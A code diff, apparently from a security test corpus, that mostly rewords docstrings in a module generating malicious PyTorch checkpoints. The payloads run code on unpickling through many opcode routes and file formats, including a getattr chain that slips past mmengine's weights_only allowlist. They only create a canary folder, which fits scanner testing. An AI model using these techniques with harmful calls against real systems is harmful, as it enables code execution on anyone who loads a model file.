@@ -1,4 +1,4 @@
-"""Files that run code when they are unpickled, one for each way in; the code makes a folder."""
+"""Files that execute code when they are unpickled: each attack creates a folder."""
 
 import io
 import os
@@ -13,7 +13,7 @@ import torch
 
 
 class Payload:
-    """What a malicious class looks like to whoever pickles it."""
+    """Object whose pickle creates a folder when it is loaded."""
 
     def __init__(self, path):
         self.path = path
@@ -30,46 +30,46 @@ def text(value):
     return b'X' + struct.pack('<I', len(raw)) + raw
 
 
-def found(module, name):
-    """GLOBAL."""
+def named(module, name):
+    """Encode the GLOBAL opcode."""
     return f'c{module}\n{name}\n'.encode()
 
 
 def called(function, *arguments):
-    """REDUCE."""
+    """Encode the REDUCE opcode."""
     return function + b'(' + b''.join(arguments) + b'tR'
 
 
 def attribute(holder, name):
-    return called(found('builtins', 'getattr'), holder, text(name))
+    return called(named('builtins', 'getattr'), holder, text(name))
 
 
-MKDIR = found('os', 'mkdir')
-# Of the memo, at a place that no checkpoint here comes to.
+MKDIR = named('os', 'mkdir')
+# Memo opcodes with an index that no checkpoint here reaches.
 PUT, GET = b'r\x00\x01\x00\x00', b'j\x00\x01\x00\x00'
 
 
 def fragments(canary):
-    """Opcodes that make the canary and leave one item on the stack, by the way they do it."""
+    """Return opcodes by attack that create the canary and leave one item on the stack."""
     path = text(canary)
-    partial = found('functools', 'partial')
-    namespace = called(found('types', 'SimpleNamespace'))
-    extension = called(found('copyreg', 'add_extension'), text('os'), text('mkdir'), b'K\xf0')
-    module = called(found('builtins', '__import__'), text('os'))
+    partial = named('functools', 'partial')
+    namespace = called(named('types', 'SimpleNamespace'))
+    extension = called(named('copyreg', 'add_extension'), text('os'), text('mkdir'), b'K\xf0')
+    module = called(named('builtins', '__import__'), text('os'))
     bare = b'\x80\x02' + called(MKDIR, path) + b'.'
     inner = b'B' + struct.pack('<I', len(bare)) + bare
     return {
         'reduce': called(MKDIR, path),
         'stack_global': text('os') + text('mkdir') + b'\x93' + path + b'\x85R',
         'dotted_name': b'\x80\x04' + text('os') + text('path.os.mkdir') + b'\x93' + path + b'\x85R',
-        'python_2_name': called(found('posix', 'mkdir'), path),
+        'python_2_name': called(named('posix', 'mkdir'), path),
         'inst': b'(' + path + b'ios\nmkdir\n',
         'obj': b'(' + MKDIR + path + b'o',
         'newobj': partial + MKDIR + path + b'\x86\x81' + b')R',
         'newobj_ex': partial + MKDIR + b'\x85}' + text('path') + path + b's\x92)R',
         'build': namespace + b'}' + text('__setstate__') + MKDIR + b'sb' + path + b'b',
         'getattr': called(attribute(module, 'mkdir'), path),
-        'eval': called(found('builtins', 'eval'), text(f'__import__("os").mkdir({str(canary)!r})')),
+        'eval': called(named('builtins', 'eval'), text(f'__import__("os").mkdir({str(canary)!r})')),
         'extension_registry': b'(' + extension + b'\x82\xf0' + path + b'\x85Rt',
         'persistent_id': b'(' + text('storage') + called(MKDIR, path) + b'tQ',
         'duplicated': b'(' + MKDIR + b'2' + path + b'\x85Rt',
@@ -77,26 +77,26 @@ def fragments(canary):
         'in_a_list': b'](' + called(MKDIR, path) + b'e',
         'as_a_key': b'}' + called(MKDIR, path) + b'Ns',
         'tensor_subclass': called(
-            found('torch._tensor', '_rebuild_from_type_v2'),
-            *(MKDIR, found('torch', 'Tensor'), path + b'\x85', b'}'),
+            named('torch._tensor', '_rebuild_from_type_v2'),
+            *(MKDIR, named('torch', 'Tensor'), path + b'\x85', b'}'),
         ),
-        'pickle_in_pickle': called(found('pickle', 'loads'), inner),
+        'pickle_in_pickle': called(named('pickle', 'loads'), inner),
         'mmengines_getattr': getattr_chain(path),
     }  # fmt: skip
 
 
 def getattr_chain(path):
-    """Passes mmengine's own list for ``weights_only=True``, which has getattr in it.
+    """Build an attack that passes the allowed globals of mmengine, which include getattr.
 
-    From a function of torch to its globals and to every module, by way of an object's attributes;
-    then os.mkdir is put among the functions that torch allows.
+    It reaches every module through the globals of a torch function and attributes of an object,
+    and then adds os.mkdir to the functions that torch allows.
     """
 
     def with_attributes(of):
-        return called(found('mmengine.logging.history_buffer', 'HistoryBuffer')) + of + b'b'
+        return called(named('mmengine.logging.history_buffer', 'HistoryBuffer')) + of + b'b'
 
     def module(name):
-        own = attribute(found('torch._utils', '_rebuild_tensor_v2'), '__globals__')
+        own = attribute(named('torch._utils', '_rebuild_tensor_v2'), '__globals__')
         modules = attribute(attribute(with_attributes(own), 'sys'), 'modules')
         return attribute(with_attributes(modules), name)
 
@@ -110,19 +110,19 @@ def getattr_chain(path):
 
 
 def first_opcode(pickled):
-    """Where the opcodes begin, behind the protocol and the frame."""
+    """Return the index of the first opcode after protocol and frame."""
     ops = [(op.name, place) for op, _, place in pickletools.genops(pickled)]
     return next(place for name, place in ops if name not in ('PROTO', 'FRAME'))
 
 
 def injected(pickled, fragment):
-    """The fragment first, its outcome thrown away, and then what was there."""
+    """Insert a fragment before the first opcode, and discard its result."""
     place = first_opcode(pickled)
     return pickled[:place] + fragment + b'0' + pickled[place:]
 
 
 def extended(pickled, fragment):
-    """A pickled dict with one more entry."""
+    """Add an entry to a pickled dict."""
     return pickled[:-1] + text('more') + fragment + b's.'
 
 
@@ -133,7 +133,7 @@ def saved(**options):
 
 
 def archive(change, *arguments):
-    """A checkpoint of weights whose pickle was changed."""
+    """Write a checkpoint and change its pickle."""
     out = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(saved())) as clean, zipfile.ZipFile(out, 'w') as made:
         for entry in clean.infolist():
@@ -145,7 +145,7 @@ def archive(change, *arguments):
 
 
 def legacy(fragment, number):
-    """Of before PyTorch 1.6: pickles one after the other; the code is in one of them."""
+    """Write the format before PyTorch 1.6: consecutive pickles, one of which has the code."""
     clean = saved(_use_new_zipfile_serialization=False)
     stream, pickles = io.BytesIO(clean), []
     for _ in range(4):  # magic number, protocol, system, content
@@ -157,7 +157,7 @@ def legacy(fragment, number):
 
 
 def tar(fragment):
-    """Of before PyTorch 0.1.10."""
+    """Write the format before PyTorch 0.1.10."""
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode='w') as made:
         for name in ('storages', 'tensors', 'pickle'):
@@ -169,7 +169,7 @@ def tar(fragment):
 
 
 def script(canary):
-    """TorchScript, whose ``__setstate__`` is run when it is loaded; it makes a file."""
+    """Write TorchScript whose ``__setstate__`` creates a file when it is loaded."""
 
     class Module(torch.nn.Module):
         def __init__(self, path: str):
@@ -196,7 +196,7 @@ def script(canary):
 
 
 def zipped(content):
-    """As torch.hub takes them apart: one file in an archive."""
+    """Write an archive of one file, as torch.hub unpacks them."""
     out = io.BytesIO()
     with zipfile.ZipFile(out, 'w') as made:
         made.writestr('inner.pth', content)
@@ -204,7 +204,7 @@ def zipped(content):
 
 
 def corpus(folder):
-    """Writes the files; what each would make is beside it, with the suffix ``.canary``."""
+    """Write all files; each would create a canary with its name and the suffix ``.canary``."""
     folder.mkdir()
     routes = list(fragments('x'))
     makers = {name: lambda c, name=name: archive(extended, fragments(c)[name]) for name in routes}
@@ -223,7 +223,7 @@ def corpus(folder):
     makers['bytes_of_another'] = lambda c: archive(
         extended,
         called(
-            found('torch.storage', '_load_from_bytes'),
+            named('torch.storage', '_load_from_bytes'),
             b'B%s%s'
             % (struct.pack('<I', len(inner := archive(extended, fragments(c)['reduce']))), inner),
         ),
